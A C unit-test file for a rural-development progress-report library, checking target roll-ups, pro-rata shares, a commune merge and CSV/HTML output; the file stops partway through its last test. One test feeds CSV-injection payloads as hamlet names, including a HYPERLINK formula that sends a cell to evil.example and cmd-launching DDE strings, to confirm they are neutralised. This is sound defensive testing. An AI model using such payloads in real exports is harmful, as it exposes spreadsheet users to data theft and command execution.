/* SPDX-License-Identifier: MIT */
/*
 * test_report.c - progress reports over a fixture store built through the
 * library, with hand-computed figures for every kind of target, the
 * roll-up levels, the 2020 merge, --approved, deleted records and a
 * revoked device; the CSV output is parsed back.
 */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <cmocka.h>
#include <sqlite3.h>

#include "ntm.h"
#include "plan_int.h"

struct fx {
    char dir[64];
    struct ntm_store *st;
    struct ntm_key *root, *dev;
    struct ntm_plan *plan;
    char approved_id[NTM_RECORD_ID_LEN + 1];
};

static void
act(struct fx *f, struct ntm_key *k, const char *task, const char *unit,
    const char *date, const char *qty, char *id_out)
{
    char id[NTM_RECORD_ID_LEN + 1];
    struct ntm_write_result res;
    struct ntm_error err = {0};
    json_t *fields = json_pack("{s:s, s:s, s:s}", "task", task, "date", date,
                               "title", "fixture");
    if (qty) {
        /* a quantity comes with its unit: the task's canonical one */
        json_object_set_new(fields, "qty", json_string(qty));
        json_object_set_new(fields, "uom",
                            json_string(ntm_plan_task_uom(f->plan, task)));
    }
    if (ntm_record_create(f->st, k, "activity", unit, "doan", fields, id, &res,
                          &err) != NTM_OK)
        fail_msg("record_create %s %s: %s", task, unit, err.msg);
    json_decref(fields);
    if (id_out)
        memcpy(id_out, id, sizeof(id));
}

static void
measure(struct fx *f, const char *task, const char *unit, const char *period,
        int num, int den)
{
    char id[NTM_RECORD_ID_LEN + 1];
    struct ntm_write_result res;
    struct ntm_error err = {0};
    json_t *fields = json_pack("{s:s, s:s, s:i, s:i}", "task", task, "period",
                               period, "num", num, "den", den);
    if (ntm_record_create(f->st, f->root, "measure", unit, "hccb", fields, id,
                          &res, &err) != NTM_OK)
        fail_msg("measure %s %s: %s", task, unit, err.msg);
    json_decref(fields);
}

static int
setup(void **state)
{
    struct fx *f = calloc(1, sizeof(*f));
    struct ntm_error err = {0};
    struct ntm_write_result res;
    char path[128], root_hex[NTM_HEX_ID_LEN + 1], dev_hex[NTM_HEX_ID_LEN + 1];
    char del_id[NTM_RECORD_ID_LEN + 1];
    int m;

    assert_int_equal(ntm_global_init(), NTM_OK);
    snprintf(f->dir, sizeof(f->dir), "/tmp/ntm-report-XXXXXX");
    assert_non_null(mkdtemp(f->dir));
    snprintf(path, sizeof(path), "%s/ntm.db", f->dir);
    assert_int_equal(ntm_store_open(&f->st, path, NTM_STORE_CREATE, &err),
                     NTM_OK);
    assert_int_equal(ntm_key_generate(&f->root, &err), NTM_OK);
    assert_int_equal(ntm_key_generate(&f->dev, &err), NTM_OK);
    ntm_key_author(f->root, root_hex);
    ntm_key_author(f->dev, dev_hex);
    assert_int_equal(ntm_store_set_root(f->st, root_hex, &err), NTM_OK);
    assert_int_equal(ntm_plan_load(&f->plan, NULL, &err), NTM_OK);

    /* yearly sum: 2017 = 2.4 + 50 (Go Dau) + 30 (Tay Ninh city) */
    act(f, f->root, "doan.rural_roads_km", "72.710.25657", "2017-03-05", "2.4",
        f->approved_id);
    act(f, f->root, "doan.rural_roads_km", "72.710.25657", "2017-06-01", "50",
        NULL);
    act(f, f->root, "doan.rural_roads_km", "72.703.25456", "2017-07-01", "30",
        NULL);
    /* deleted: never counts */
    act(f, f->root, "doan.rural_roads_km", "72.705.25486", "2017-08-01", "100",
        del_id);
    assert_int_equal(ntm_record_delete(f->st, f->root, del_id, &res, &err),
                     NTM_OK);
    /* a revoked device's record: never counts */
    assert_int_equal(ntm_device_enroll(f->st, f->root, dev_hex, "recorder",
                                       "72", "phone", "doan", 1, &res, &err),
                     NTM_OK);
    act(f, f->dev, "doan.rural_roads_km", "72.706.25516", "2017-09-01", "500",
        NULL);
    assert_int_equal(
        ntm_device_revoke(f->st, f->root, dev_hex, 0, "lost", &res, &err),
        NTM_OK);
    assert_int_equal(ntm_record_review(f->st, f->root, f->approved_id,
                                       "approved", NULL, &res, &err),
                     NTM_OK);
    /* the 2020 merge: Phuoc Luu (25726) into Binh Thanh / Phuoc Binh */
    act(f, f->root, "doan.rural_roads_km", "72.712.25726", "2019-05-01", "10",
        NULL);
    act(f, f->root, "doan.rural_roads_km", "72.712.25729", "2019-06-01", "5",
        NULL);
    /* ratio: 2018 = (8 + 9) / (10 + 10); 72.705's yearly figure wins */
    measure(f, "doan.strong_commune_unions_pct", "72.703", "2018", 8, 10);
    measure(f, "doan.strong_commune_unions_pct", "72.705", "2018-06", 5, 10);
    measure(f, "doan.strong_commune_unions_pct", "72.705", "2018", 9, 10);
    /* cumulative by 2017: 100 + 150 + 1 (no qty counts one) */
    act(f, f->root, "doan.savings_groups", "72.703", "2016-05-01", "100", NULL);
    act(f, f->root, "doan.savings_groups", "72.705", "2017-02-01", "150", NULL);
    act(f, f->root, "doan.savings_groups", "72.706", "2017-03-01", NULL, NULL);
    /* monthly, a duty of every ward/town (Phuong 1): every month of 2018
     * but July */
    for (m = 1; m <= 12; m++) {
        char d[16];
        if (m == 7)
            continue;
        snprintf(d, sizeof(d), "2018-%02d-10", m);
        act(f, f->root, "doan.env_activities", "72.703.25456", d, NULL, NULL);
    }
    /* per ward/town a year: Hiep Tan is a ward from 2020-02-01 */
    act(f, f->root, "doan.reintegrated_youth", "72.709.25633", "2020-05-01",
        NULL, NULL);
    act(f, f->root, "doan.reintegrated_youth", "72.703.25456", "2020-03-01",
        NULL, NULL);
    /* per district by the deadline */
    act(f, f->root, "hccb.coop_per_district", "72.705.25486", "2019-01-01",
        NULL, NULL);
    /* reach zero by 2020 */
    measure(f, "doan.poor_youth_households", "72.703", "2019", 3, 100);
    measure(f, "doan.poor_youth_households", "72.703", "2020", 0, 100);
    /* at most 0.5 %: 1 / 400 = 0.25 % */
    measure(f, "hccb.poor_rate_pct", "72.710", "2020", 1, 400);
    /* above the provincial average: 55 / 50 = 110 % */
    measure(f, "hccb.income_above_avg", "72.710", "2018", 55, 50);
    /* existence */
    act(f, f->root, "doan.traffic_shock_team", "72.711", "2016-04-01", NULL,
        NULL);
    *state = f;
    return 0;
}

static int
teardown(void **state)
{
    struct fx *f = *state;
    char cmd[128];
    ntm_plan_free(f->plan);
    ntm_store_close(f->st);
    ntm_key_free(f->root);
    ntm_key_free(f->dev);
    snprintf(cmd, sizeof(cmd), "rm -rf '%s'", f->dir);
    if (system(cmd) != 0)
        return -1;
    free(f);
    return 0;
}

/* new: the report's JSON for these options */
static json_t *
run(struct fx *f, const struct ntm_report_opts *o)
{
    struct ntm_report *r = NULL;
    struct ntm_error err = {0};
    json_t *doc;
    if (ntm_report_run(f->plan, f->st, o, &r, &err) != NTM_OK)
        fail_msg("report: %s", err.msg);
    doc = ntm_report_json(r, "vi");
    ntm_report_free(r);
    assert_non_null(doc);
    return doc;
}

static json_t *
row(json_t *doc, const char *task, const char *unit, const char *period)
{
    size_t i;
    json_t *w;
    json_array_foreach (json_object_get(doc, "rows"), i, w) {
        if (!strcmp(json_string_value(json_object_get(w, "task")), task) &&
            !strcmp(json_string_value(json_object_get(w, "unit")), unit) &&
            !strcmp(json_string_value(json_object_get(w, "period")), period))
            return w;
    }
    return NULL;
}

static void
expect(json_t *doc, const char *task, const char *unit, const char *period,
       double target, double achieved, const char *status)
{
    json_t *w = row(doc, task, unit, period);
    if (!w)
        fail_msg("no row %s %s %s", task, unit, period);
    if (json_real_value(json_object_get(w, "target")) != target ||
        json_real_value(json_object_get(w, "achieved")) != achieved ||
        strcmp(json_string_value(json_object_get(w, "status")), status))
        fail_msg("%s %s %s: target %g achieved %g status %s; want %g %g %s",
                 task, unit, period,
                 json_real_value(json_object_get(w, "target")),
                 json_real_value(json_object_get(w, "achieved")),
                 json_string_value(json_object_get(w, "status")), target,
                 achieved, status);
}

static void
test_report_kinds_closed(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    json_t *d;
    o.as_of = "2020-12-31";
    d = run(f, &o);
    /* sums roll up; deleted and revoked records are left out; districts
     * are judged on their pro-rata share of 80 km: 94 communes in the
     * tree of 2020-12-31, 9 in Go Dau (7.66 km), 10 in Tay Ninh city
     * (8.51 km), 12 in Tan Chau (10.21 km) */
    expect(d, "doan.rural_roads_km", "72", "2017", 80, 82.4, "met");
    expect(d, "doan.rural_roads_km", "72.710", "2017", 7.66, 52.4, "met");
    expect(d, "doan.rural_roads_km", "72.703", "2017", 8.51, 30, "met");
    expect(d, "doan.rural_roads_km", "72.705", "2017", 8.51, 0, "no_data");
    expect(d, "doan.rural_roads_km", "72.706", "2017", 10.21, 0, "no_data");
    expect(d, "doan.rural_roads_km", "72", "2016", 80, 0, "no_data");
    /* ratios add numerators and denominators */
    expect(d, "doan.strong_commune_unions_pct", "72", "2018", 85, 85, "met");
    expect(d, "doan.strong_commune_unions_pct", "72.705", "2018", 85, 90,
           "met");
    expect(d, "doan.strong_commune_unions_pct", "72.703", "2018", 85, 80,
           "missed");
    /* a register: the groups active at the end of 2017, the deadline
     * (100 + 150 + 1), and still judged in 2020 (nothing dissolved) */
    expect(d, "doan.savings_groups", "72", "2017", 300, 251, "missed");
    expect(d, "doan.savings_groups", "72", "2020", 300, 251, "missed");
    /* 2016: 100 by its end, short of 300 x 366 / 731 = 150.2 on the way
     * to the deadline */
    expect(d, "doan.savings_groups", "72", "2016", 300, 100, "behind");
    /* a duty of each of the 23 wards/towns: 23 x 12 = 276 unit-months,
     * Phuong 1 has 11 of its 12 */
    expect(d, "doan.env_activities", "72", "2018", 276, 11, "missed");
    /* per-unit targets count the units that meet them: 23 wards/towns in
     * 2020, 4 of them in Hoa Thanh */
    expect(d, "doan.reintegrated_youth", "72", "2020", 23, 2, "missed");
    expect(d, "doan.reintegrated_youth", "72.709", "2020", 4, 1, "missed");
    expect(d, "doan.reintegrated_youth", "72.705", "2020", 1, 0, "no_data");
    expect(d, "doan.reintegrated_youth", "72", "2019", 15, 0, "no_data");
    expect(d, "hccb.coop_per_district", "72", "2016-2020", 9, 1, "missed");
    expect(d, "hccb.coop_per_district", "72.705", "2016-2020", 1, 1, "met");
    expect(d, "doan.poor_youth_households", "72", "2020", 0, 0, "met");
    expect(d, "doan.poor_youth_households", "72", "2019", 0, 3, "on_track");
    expect(d, "hccb.poor_rate_pct", "72", "2020", 0.5, 0.25, "met");
    expect(d, "hccb.income_above_avg", "72", "2018", 100, 110, "met");
    expect(d, "doan.traffic_shock_team", "72", "2016-2020", 1, 1, "met");
    expect(d, "doan.self_managed_road", "72", "2016-2020", 1, 0, "no_data");
    assert_string_equal(
        json_string_value(json_object_get(
            row(d, "doan.rural_roads_km", "72", "2017"), "unit_of_measure")),
        "km");
    json_decref(d);
}

static void
test_report_in_progress(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    json_t *d;
    /* 547 of 731 days gone: 251 >= 300 * 547 / 731 */
    o.as_of = "2017-06-30";
    d = run(f, &o);
    expect(d, "doan.savings_groups", "72", "2017", 300, 251, "on_track");
    /* only the first record of 2017 is dated by then */
    expect(d, "doan.rural_roads_km", "72", "2017", 80, 52.4, "on_track");
    assert_null(row(d, "doan.rural_roads_km", "72", "2018"));
    json_decref(d);
    o.as_of = "2018-06-30";
    d = run(f, &o);
    /* 15 wards/towns in force then: 15 x 12 = 180; January to June are
     * over: 15 x 6 = 90 due, 6 reported (Phuong 1): behind */
    expect(d, "doan.env_activities", "72", "2018", 180, 6, "behind");
    json_decref(d);
}

static void
test_report_merge(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    json_t *d, *w;
    o.unit = "72.712";
    o.year = 2019;
    o.as_of = NULL;
    /* seen from 2020 on: one commune, today's name */
    o.year = 0;
    o.as_of = "2021-01-01";
    d = run(f, &o);
    w = row(d, "doan.rural_roads_km", "72.712.25729", "2019");
    assert_non_null(w);
    assert_true(json_real_value(json_object_get(w, "achieved")) == 15);
    assert_string_equal(json_string_value(json_object_get(w, "unit_name")),
                        "Xã Phước Bình");
    assert_null(row(d, "doan.rural_roads_km", "72.712.25726", "2019"));
    /* 10 of the 94 communes: 8.51 km */
    expect(d, "doan.rural_roads_km", "72.712", "2019", 8.51, 15, "met");
    json_decref(d);
    /* seen from 2019: two communes under their names of the time */
    o.as_of = NULL;
    o.year = 2019;
    d = run(f, &o);
    /* one of the 95 communes of 2019: 80 / 95 = 0.84 km */
    expect(d, "doan.rural_roads_km", "72.712.25726", "2019", 0.84, 10, "met");
    w = row(d, "doan.rural_roads_km", "72.712.25729", "2019");
    assert_true(json_real_value(json_object_get(w, "achieved")) == 5);
    assert_string_equal(json_string_value(json_object_get(w, "unit_name")),
                        "Xã Bình Thạnh");
    json_decref(d);
    /* a retired code given as --unit means its successor */
    o.unit = "72.712.25726";
    o.year = 0;
    o.as_of = "2021-01-01";
    d = run(f, &o);
    assert_string_equal(json_string_value(json_object_get(d, "unit")),
                        "72.712.25729");
    json_decref(d);
}

static void
test_report_approved(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    json_t *d;
    o.year = 2017;
    o.approved = 1;
    d = run(f, &o);
    expect(d, "doan.rural_roads_km", "72", "2017", 80, 2.4, "missed");
    json_decref(d);
    o.approved_level = "province";
    d = run(f, &o);
    expect(d, "doan.rural_roads_km", "72", "2017", 80, 2.4, "missed");
    json_decref(d);
    o.approved = 0;
    o.approved_level = NULL;
    o.org = "hccb";
    d = run(f, &o);
    assert_null(row(d, "doan.rural_roads_km", "72", "2017"));
    assert_non_null(row(d, "hccb.health_insurance_pct", "72", "2017"));
    json_decref(d);
}

static const char *
str(json_t *w, const char *key)
{
    const char *s = json_string_value(json_object_get(w, key));
    return s ? s : "";
}

static double
share(json_t *doc, const char *task, const char *unit, const char *period)
{
    json_t *w = row(doc, task, unit, period);
    if (!w)
        fail_msg("no row %s %s %s", task, unit, period);
    if (json_is_null(json_object_get(w, "share")))
        return -1;
    return json_real_value(json_object_get(w, "share"));
}

/*
 * Rows below the province (config/README.md): per-unit targets as the
 * plan sets them, rates as they stand, other targets a pro-rata share of
 * the plan's figure by communes (whole things rounded up); each row shows
 * its share of the province's achievement.
 */
static void
test_report_lower_rows(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    json_t *d, *w, *recs, *created;
    struct ntm_report *r = NULL;

    o.as_of = "2020-12-31";
    d = run(f, &o);
    assert_int_equal(json_integer_value(json_object_get(d, "communes")), 94);
    assert_non_null(strstr(str(d, "legend"), "chia theo tỷ lệ"));
    w = row(d, "doan.rural_roads_km", "72", "2017");
    assert_string_equal(str(w, "basis"), "plan");
    assert_true(json_is_null(json_object_get(w, "share")));
    w = row(d, "doan.rural_roads_km", "72.710", "2017");
    assert_string_equal(str(w, "basis"), "pro_rata");
    assert_true(json_real_value(json_object_get(w, "plan_target")) == 80);
    /* 52.4 of 82.4 km; 30 of 82.4 km; nothing */
    assert_true(share(d, "doan.rural_roads_km", "72.710", "2017") > 63.59 &&
                share(d, "doan.rural_roads_km", "72.710", "2017") < 63.60);
    assert_true(share(d, "doan.rural_roads_km", "72.703", "2017") > 36.40 &&
                share(d, "doan.rural_roads_km", "72.703", "2017") < 36.41);
    assert_true(share(d, "doan.rural_roads_km", "72.705", "2017") == 0);
    /* the province has no 2016 figure: no share */
    assert_true(share(d, "doan.rural_roads_km", "72.710", "2016") < 0);
    /* largest remainder over the 94 communes of 2020 (districts 703:10,
     * 705:10, 706:12, 707:11, 708:15, 709:8, 710:9, 711:9, 712:10):
     * 300 x w / 94 gives whole parts 31 31 38 35 47 25 28 28 31 = 294 and
     * remainders (x94) 86 86 28 10 82 50 68 68 86; the 6 steps left go to
     * 703, 705, 712 (86, ties by weight then order), 708 (82), 710 and
     * 711 (68): 32 32 38 35 48 25 29 29 32 = 300 */
    expect(d, "doan.savings_groups", "72.705", "2017", 32, 150, "met");
    expect(d, "doan.savings_groups", "72.706", "2017", 38, 1, "missed");
    {
        static const char *dist[] = {"72.703", "72.705", "72.706",
                                     "72.707", "72.708", "72.709",
                                     "72.710", "72.711", "72.712"};
        double sum = 0, sum12 = 0, sum1 = 0;
        for (int k = 0; k < 9; k++) {
            sum += json_real_value(json_object_get(
                row(d, "doan.savings_groups", dist[k], "2017"), "target"));
            sum12 += json_real_value(json_object_get(
                row(d, "doan.env_activities", dist[k], "2018"), "target"));
            sum1 += json_real_value(json_object_get(
                row(d, "doan.traffic_shock_team", dist[k], "2016-2020"),
                "target"));
        }
        assert_true(sum == 300 && sum12 == 276 && sum1 == 1);
    }
    /* a monthly duty: no pro-rata share; each district owes 12 months of
     * each of its wards/towns (703: 7 x 12 = 84, 710: 1 x 12), no share */
    expect(d, "doan.env_activities", "72", "2018", 276, 11, "missed");
    expect(d, "doan.env_activities", "72.703", "2018", 84, 11, "missed");
    expect(d, "doan.env_activities", "72.710", "2018", 12, 0, "no_data");
    assert_true(share(d, "doan.env_activities", "72.703", "2018") < 0);
    /* existence: 1 team x w / 94: 0 everywhere, remainder w; the largest
     * (708, 15 communes) gets the one team */
    expect(d, "doan.traffic_shock_team", "72.711", "2016-2020", 0, 1, "met");
    expect(d, "doan.traffic_shock_team", "72.708", "2016-2020", 1, 0,
           "no_data");
    expect(d, "doan.traffic_shock_team", "72.703", "2016-2020", 0, 0,
           "no_data");
    /* rates hold for every unit; the share is of the numerators */
    w = row(d, "doan.strong_commune_unions_pct", "72.705", "2018");
    assert_string_equal(str(w, "basis"), "rate");
    assert_true(share(d, "doan.strong_commune_unions_pct", "72.705", "2018") ==
                100.0 * 9 / 17);
    /* a comparison with a reference has no share */
    assert_true(share(d, "hccb.income_above_avg", "72.710", "2018") < 0);
    /* per-unit targets as the plan sets them */
    w = row(d, "hccb.coop_per_district", "72.705", "2016-2020");
    assert_string_equal(str(w, "basis"), "per_unit");
    expect(d, "hccb.coop_per_district", "72.710", "2016-2020", 1, 0, "no_data");
    json_decref(d);

    /* a district's report: Go Dau on 80 x 9 / 95 = 7.5789 -> 7.58 km (its
     * remainder is among the largest); its 9 communes share those 758
     * hundredths: 84 each = 756, the 2 left go to the first two in tree
     * order (equal remainders and weights): 25654 and 25657 get 0.85;
     * shares still of the province */
    o.as_of = NULL;
    o.year = 2017;
    o.unit = "72.710";
    d = run(f, &o);
    expect(d, "doan.rural_roads_km", "72.710", "2017", 7.58, 52.4, "met");
    expect(d, "doan.rural_roads_km", "72.710.25657", "2017", 0.85, 52.4, "met");
    expect(d, "doan.rural_roads_km", "72.710.25660", "2017", 0.84, 0,
           "no_data");
    assert_true(share(d, "doan.rural_roads_km", "72.710", "2017") > 63.59 &&
                share(d, "doan.rural_roads_km", "72.710", "2017") < 63.60);
    json_decref(d);

    /* hamlets split their commune's share (0.85 km, above) by largest
     * remainder: 85 hundredths / 2 = 42 each, the one left to the first
     * hamlet: 0.43 + 0.42 = 0.85 */
    recs = json_pack("[{s:s, s:s, s:s, s:s, s:{s:s, s:s, s:s, s:s}}]", "id",
                     "00000000000000000000000000000001", "kind", "activity",
                     "unit", "72.710.25657.1", "org", "doan", "fields", "task",
                     "doan.rural_roads_km", "date", "2017-03-05", "qty", "0.3",
                     "uom", "km");
    created = json_pack("[{s:s, s:s, s:s}, {s:s, s:s, s:s}]", "code",
                        "72.710.25657.1", "name", "Ấp Bến Đình", "level",
                        "hamlet", "code", "72.710.25657.2", "name",
                        "Ấp Trâm Vàng", "level", "hamlet");
    o.unit = "72.710.25657";
    assert_int_equal(
        ntm_report_run_records(f->plan, recs, created, &o, &r, NULL), NTM_OK);
    d = ntm_report_json(r, "vi");
    ntm_report_free(r);
    expect(d, "doan.rural_roads_km", "72.710.25657.1", "2017", 0.43, 0.3,
           "missed");
    expect(d, "doan.rural_roads_km", "72.710.25657.2", "2017", 0.42, 0,
           "no_data");
    assert_true(share(d, "doan.rural_roads_km", "72.710.25657.1", "2017") ==
                100);
    json_decref(d);
    json_decref(recs);
    json_decref(created);
}

/* RFC 4180 parse of one field at *p; returns the next position */
static const char *
csv_field(const char *p, char *out, size_t size)
{
    size_t n = 0;
    if (*p == '"') {
        for (p++; *p; p++) {
            if (*p == '"' && p[1] == '"')
                p++;
            else if (*p == '"') {
                p++;
                break;
            }
            if (n + 1 < size)
                out[n++] = *p;
        }
    } else {
        for (; *p && *p != ',' && *p != '\r'; p++)
            if (n + 1 < size)
                out[n++] = *p;
    }
    out[n] = '\0';
    return p;
}

static void
test_report_csv(void **state)
{
    struct fx *f = *state;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    struct ntm_buf b = NTM_BUF_INIT;
    const char *p, *line;
    char fields[22][256];
    int found = 0, lines = 0, i;

    o.year = 2017;
    assert_int_equal(ntm_report_run(f->plan, f->st, &o, &r, NULL), NTM_OK);
    assert_int_equal(ntm_report_format(r, NTM_REPORT_CSV, "vi", &b, NULL),
                     NTM_OK);
    assert_memory_equal(b.buf, "\xEF\xBB\xBF", 3);
    p = b.buf + 3;
    {
        static const char head[] = "task,label,org,unit,unit_name,period,"
                                   "target,achieved,unit_of_measure,status,"
                                   "status_label,plan_target,basis,share,"
                                   "children,record,reason,activities,"
                                   "measures,people,amount_vnd,labor_days"
                                   "\r\n";
        assert_memory_equal(p, head, strlen(head));
    }
    while (*p) {
        line = p;
        for (i = 0; i < 22; i++) {
            p = csv_field(p, fields[i], sizeof(fields[i]));
            if (i < 21)
                assert_int_equal(*p++, ',');
        }
        assert_true(p[0] == '\r' && p[1] == '\n');
        p += 2;
        lines++;
        if (line != b.buf + 3 && !strcmp(fields[0], "doan.rural_roads_km") &&
            !strcmp(fields[3], "72") && !strcmp(fields[5], "2017") &&
            !strcmp(fields[9], "summary")) {
            /* the work recorded: the same 3 activities, 82.4 km */
            assert_string_equal(fields[7], "82.4");
            assert_string_equal(fields[8], "km");
            assert_string_equal(fields[17], "3");
            assert_string_equal(fields[18], "0");
            assert_string_equal(fields[6], "");
            found++;
        } else if (line != b.buf + 3 &&
                   !strcmp(fields[0], "doan.rural_roads_km") &&
                   !strcmp(fields[3], "72") && !strcmp(fields[5], "2017")) {
            assert_string_equal(fields[6], "80");
            assert_string_equal(fields[7], "82.4");
            assert_string_equal(fields[9], "met");
            assert_string_equal(fields[4], "Tỉnh Tây Ninh");
            assert_non_null(strstr(fields[1], "80 km"));
            assert_string_equal(fields[12], "plan");
            assert_string_equal(fields[13], "");
            found++;
        }
        if (line != b.buf + 3 && !strcmp(fields[0], "doan.rural_roads_km") &&
            !strcmp(fields[3], "72.710") && !strcmp(fields[5], "2017") &&
            strcmp(fields[9], "summary")) {
            /* 80 * 9 / 95; 52.4 of 82.4 km */
            assert_string_equal(fields[6], "7.58");
            assert_string_equal(fields[9], "met");
            assert_string_equal(fields[11], "80");
            assert_string_equal(fields[12], "pro_rata");
            assert_string_equal(fields[13], "63.59");
            found++;
        }
    }
    assert_int_equal(found, 3);
    /* the header, the target rows, the not counted, the summary rows */
    assert_int_equal(lines, 1 + r->nrows + r->nskips + r->nsums + r->nduties +
                                r->ncompl);
    ntm_buf_release(&b);
    /* the table aligns by display width and has every target */
    assert_int_equal(ntm_report_format(r, NTM_REPORT_TABLE, "en", &b, NULL),
                     NTM_OK);
    assert_non_null(strstr(ntm_buf_str(&b), "doan.rural_roads_km"));
    assert_non_null(strstr(ntm_buf_str(&b), "hccb.health_insurance_pct"));
    ntm_buf_release(&b);
    ntm_report_free(r);
}

/*
 * CSV injection (OWASP): a hamlet created by unit.create may carry any
 * name, and its name lands in the CSV report. A cell that starts with =,
 * +, -, @, tab or CR is a formula to a spreadsheet program, so every text
 * cell that starts with one is written quoted, behind a single quote.
 */
static void
test_report_csv_neutralizes_formulas(void **state)
{
    struct fx *f = *state;
    static const char *names[] = {
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
        "\r=1+1",
        "Ấp =không sao",
    };
    json_t *recs = NULL;
    struct ntm_error err = {0};
    assert_int_equal(ntm_store_records(f->st, NULL, &recs, &err), NTM_OK);
    for (size_t k = 0; k < sizeof(names) / sizeof(names[0]); k++) {
        json_t *created =
            json_pack("[{s:s, s:s, s:s, s:s}]", "code", "72.710.25657.9",
                      "name", names[k], "level", "hamlet", "entry",
                      "0000000000000000000000000000000000000000000000000000"
                      "000000000000");
        struct ntm_report_opts o = {0};
        struct ntm_report *r = NULL;
        struct ntm_buf b = NTM_BUF_INIT;
        char want[256], cell[256];
        int rows = 0;
        o.year = 2017;
        o.unit = "72.710.25657.9";
        if (ntm_report_run_records(f->plan, recs, created, &o, &r, &err) !=
            NTM_OK)
            fail_msg("report on the hamlet: %s", err.msg);
        assert_int_equal(ntm_report_format(r, NTM_REPORT_CSV, "vi", &b, NULL),
                         NTM_OK);
        int dangerous = strchr("=+-@\t\r", names[k][0]) != NULL;
        snprintf(want, sizeof(want), "%s%s", dangerous ? "'" : "", names[k]);
        const char *p = strstr(b.buf, "\r\n") + 2; /* past the header */
        while (*p) {
            for (int i = 0; i < 22; i++) {
                const char *start = p;
                p = csv_field(p, cell, sizeof(cell));
                if (i == 4) {
                    assert_string_equal(cell, want);
                    if (dangerous)
                        assert_memory_equal(start, "\"'", 2);
                    rows++;
                }
                /* No text cell a spreadsheet would evaluate. */
                if (i != 6 && i != 7 && i != 11 && i != 13 && i != 14 && i < 17)
                    assert_null(strchr("=+-@\t\r", cell[0]) && cell[0] ? cell
                                                                       : NULL);
                if (i < 21)
                    assert_int_equal(*p++, ',');
            }
            assert_true(p[0] == '\r' && p[1] == '\n');
            p += 2;
        }
        assert_true(rows > 0);
        ntm_buf_release(&b);
        /* The HTML page escapes markup and shows control characters. */
        assert_int_equal(ntm_report_format(r, NTM_REPORT_HTML, "vi", &b, NULL),
                         NTM_OK);
        for (const char *q = b.buf; *q; q++)
            if ((unsigned char)*q < 0x20 && *q != '\n' && *q != '\t')
                fail_msg("a control byte 0x%02x in the HTML page", *q);
        assert_null(strstr(b.buf, "\"&A1"));
        ntm_buf_release(&b);
        ntm_report_free(r);
        json_decref(created);
    }
    json_decref(recs);
}

/* a small deterministic generator for the fixture (rand is banned) */
static unsigned
next_rand(unsigned *seed)
{
    *seed = *seed * 1103515245u + 12345u;
    return (*seed >> 16) & 0x7fff;
}

/*
 * The indexed report against a plain scan: many records on hamlets whose
 * codes share prefixes (.1 and .10), activities summed per district and
 * measures where only each recorded unit's latest figure of the year
 * counts (a yearly figure beats monthly ones, then the later record).
 */
static void
test_report_index_matches_scan(void **state)
{
    struct fx *f = *state;
    static const char *communes[] = {"72.710.25657", "72.710.25660",
                                     "72.703.25456", "72.705.25486",
                                     "72.712.25729"};
    json_t *recs = json_array(), *created = json_array(), *d, *w;
    struct ntm_report_opts o = {0};
    struct ntm_report *r = NULL;
    int64_t sum_prov = 0, sum_710 = 0, best_num[5][13], best_den[5][13];
    int best_pkey[5][13];
    int64_t num_710 = 0, den_710 = 0, num_all = 0, den_all = 0;
    int i, c, h;
    unsigned seed = 42;

    for (c = 0; c < 5; c++)
        for (h = 1; h <= 12; h++) {
            char code[64];
            snprintf(code, sizeof(code), "%s.%d", communes[c], h);
            json_array_append_new(created,
                                  json_pack("{s:s, s:s, s:s}", "code", code,
                                            "name", "Ấp", "level", "hamlet"));
            best_pkey[c][h] = -1;
        }
    for (i = 0; i < 4000; i++) {
        char unit[64], date[16], qty[16], id[40];
        int milli = next_rand(&seed) % 5000;
        c = next_rand(&seed) % 5;
        h = 1 + next_rand(&seed) % 12;
        snprintf(unit, sizeof(unit), "%s.%d", communes[c], h);
        snprintf(date, sizeof(date), "2017-%02d-%02d",
                 1 + next_rand(&seed) % 12, 1 + next_rand(&seed) % 28);
        snprintf(qty, sizeof(qty), "%d.%03d", milli / 1000, milli % 1000);
        snprintf(id, sizeof(id), "a%031d", i);
        json_array_append_new(
            recs, json_pack("{s:s, s:s, s:s, s:s, s:{s:s, s:s, s:s, s:s}}",
                            "id", id, "kind", "activity", "unit", unit, "org",
                            "doan", "fields", "task", "doan.rural_roads_km",
                            "date", date, "qty", qty, "uom", "km"));
        sum_prov += milli;
        if (!strncmp(unit, "72.710.", 7))
            sum_710 += milli;
    }
    for (i = 0; i < 3000; i++) {
        char unit[64], period[16], id[40];
        int m = next_rand(&seed) % 13, num = next_rand(&seed) % 100,
            pk = m ? m : 99;
        c = next_rand(&seed) % 5;
        h = 1 + next_rand(&seed) % 12;
        snprintf(unit, sizeof(unit), "%s.%d", communes[c], h);
        if (m)
            snprintf(period, sizeof(period), "2017-%02d", m);
        else
            snprintf(period, sizeof(period), "2017");
        snprintf(id, sizeof(id), "m%031d", i);
        json_array_append_new(
            recs,
            json_pack("{s:s, s:s, s:s, s:s, s:{s:s, s:s, s:i, s:i}}", "id", id,
                      "kind", "measure", "unit", unit, "org", "hccb", "fields",
                      "task", "hccb.health_insurance_pct", "period", period,
                      "num", num, "den", 100));
        if (pk >= best_pkey[c][h]) {
            best_pkey[c][h] = pk;
            best_num[c][h] = num;
            best_den[c][h] = 100;
        }
    }
    for (c = 0; c < 5; c++)
        for (h = 1; h <= 12; h++) {
            if (best_pkey[c][h] < 0)
                continue;
            num_all += best_num[c][h];
            den_all += best_den[c][h];
            if (c < 2) {
                num_710 += best_num[c][h];
                den_710 += best_den[c][h];
            }
        }
    o.year = 2017;
    assert_int_equal(
        ntm_report_run_records(f->plan, recs, created, &o, &r, NULL), NTM_OK);
    d = ntm_report_json(r, "en");
    ntm_report_free(r);
    w = row(d, "doan.rural_roads_km", "72", "2017");
    assert_int_equal(
        (int64_t)(json_real_value(json_object_get(w, "achieved")) * 1000 + 0.5),
        sum_prov);
    w = row(d, "doan.rural_roads_km", "72.710", "2017");
    assert_int_equal(
        (int64_t)(json_real_value(json_object_get(w, "achieved")) * 1000 + 0.5),
